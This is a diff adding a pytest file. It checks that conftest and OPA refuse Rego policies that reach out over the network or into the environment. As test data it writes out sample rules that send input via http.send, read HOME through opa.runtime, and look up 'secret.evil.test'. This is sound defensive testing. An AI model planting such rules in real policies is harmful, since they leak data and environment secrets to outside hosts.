@@ -1,0 +1,66 @@
+"""No policy that is evaluated here reaches out: not over the network, not into the environment."""
+
+from __future__ import annotations
+
+from collections.abc import Callable
+from pathlib import Path
+
+import pytest
+
+from helpers.wrappers.conftest import Conftest
+from helpers.wrappers.opa import Opa
+from helpers.wrappers.policy import RegoError
+from helpers.wrappers.rego_capabilities import FORBIDDEN, restricted
+
+#: Three ways out, each as a rule that would carry something away.
+WAYS_OUT = {
+    "http.send": 'http.send({"method": "get", "url": sprintf("http://127.0.0.1:9/%v", [input])}).status_code == 200',
+    "opa.runtime": "opa.runtime().env.HOME != input.home",
+    "net.lookup_ip_addr": 'count(net.lookup_ip_addr("secret.evil.test")) > 0',
+}
+RULE = 'package main\n\ndeny contains "found" if {\n\t%s\n}\n'
+TEST = "package main_test\n\nimport data.main\n\ntest_it if {\n\tcount(main.deny) == 0\n}\n"
+
+#: Every way in which Rego of somebody else is evaluated.
+READERS: dict[str, Callable[[Path], object]] = {
+    "conftest test": lambda room: Conftest(room).test(document={"home": "x"}, policies=["policy"]),
+    "conftest verify": lambda room: Conftest(room).verify(policies=["policy"]),
+    "opa eval": lambda room: Opa(room).eval("data.main.deny", data=["policy"], input={"home": "x"}),
+    "opa test": lambda room: Opa(room).test("policy"),
+    "opa build": lambda room: Opa(room).build("policy"),
+}
+
+
+@pytest.mark.parametrize("way", WAYS_OUT)
+@pytest.mark.parametrize("reader", READERS)
+def test_way_out_is_refused_before_anything_is_evaluated(tmp_path: Path, reader: str, way: str) -> None:
+    policy(tmp_path, RULE % WAYS_OUT[way])
+    with pytest.raises(RegoError, match="reaches out of the evaluation") as caught:
+        READERS[reader](tmp_path)
+    assert way in caught.value.why
+
+
+@pytest.mark.parametrize("way", WAYS_OUT)
+def test_check_names_it_with_its_line(tmp_path: Path, way: str) -> None:
+    policy(tmp_path, RULE % WAYS_OUT[way])
+    (problem, *_) = Opa(tmp_path).check("policy").problems
+    assert (way in problem.message, problem.line) == (True, 4)
+
+
+def test_it_is_not_hidden_by_an_alias_or_a_with(tmp_path: Path) -> None:
+    policy(tmp_path, "package main\n\nfetch(x) := http.send(x)\n\ndeny contains 1 if fetch({}) with input as {}\n")
+    with pytest.raises(RegoError, match=r"http\.send"):
+        Conftest(tmp_path).test(document={}, policies=["policy"])
+
+
+def test_what_does_not_reach_out_stays(tmp_path: Path) -> None:
+    policy(tmp_path, RULE % 'net.cidr_contains("10.0.0.0/8", input.home)')
+    report = Conftest(tmp_path).test(document={"home": "10.1.0.0/16"}, policies=["policy"])
+    assert [found.msg for found in report.failures] == ["found"]
+    assert not any(name in restricted().read_text() for name in FORBIDDEN)
+
+
+def policy(room: Path, text: str) -> None:
+    (room / "policy").mkdir()
+    (room / "policy" / "main.rego").write_text(text)
+    (room / "policy" / "main_test.rego").write_text(TEST)
